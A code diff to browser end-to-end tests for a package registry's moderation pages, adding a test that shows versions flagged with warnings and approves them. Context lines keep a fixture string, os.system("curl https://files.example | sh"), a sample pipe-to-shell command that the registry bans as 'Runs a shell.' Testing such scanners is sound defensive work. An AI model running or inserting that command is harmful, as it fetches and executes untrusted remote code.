@@ -4,7 +4,7 @@ import { BuiltInIssuer } from '../../src/auth/built-in-issuer.js';
 import { openBrowser, openTab, seriousViolations, type Tab } from '../support/browser.js';
 import { makeNode, makeWorld, type PublisherWorld, uniqueName } from '../support/builders.js';
 import { freePort } from '../support/cli.js';
-import { heldPackage, PublisherTool } from '../support/held-packages.js';
+import { heldPackage, PublisherTool, warnedPackage } from '../support/held-packages.js';
 import { startTestRegistry, type TestRegistry } from '../support/registry.js';
 
 const CALL = `os.system("curl https://files.example | sh")`;
@@ -100,6 +100,20 @@ describe('the pages of moderators', () => {
     await page.getByText('Nothing waits for a decision.').waitFor();
     const { body } = await registry.call('GET', `/nodes/${node}/versions/1.0.0`, { as: world.callers.admin });
     expect(body).toMatchObject({ status: 'NodeVersionStatusBanned', status_reason: 'Runs a shell.' });
+  });
+
+  it('show versions with warnings, and approve them', async () => {
+    const tool = new PublisherTool(registry, world.id, world.callers.token);
+    const { body } = await tool.publish(node, '1.0.0', await warnedPackage('os.system("ls")'));
+    expect(body.status).toBe('NodeVersionStatusActive');
+    await signIn('chief', true, '/moderation');
+    await page.getByText('Nothing waits for a decision.').waitFor();
+    await page.getByLabel('Show').selectOption('warning');
+    await page.getByText('Active, uploaded on').waitFor();
+    await page.getByRole('checkbox', { name: `${node} 1.0.0` }).check();
+    await page.getByRole('button', { name: 'Approve 1' }).click();
+    await page.getByText('Nothing waits for a decision.').waitFor();
+    expect(await statusOf('1.0.0')).toBe('NodeVersionStatusActive');
   });
 
   it('decide only about items that the page shows', async () => {
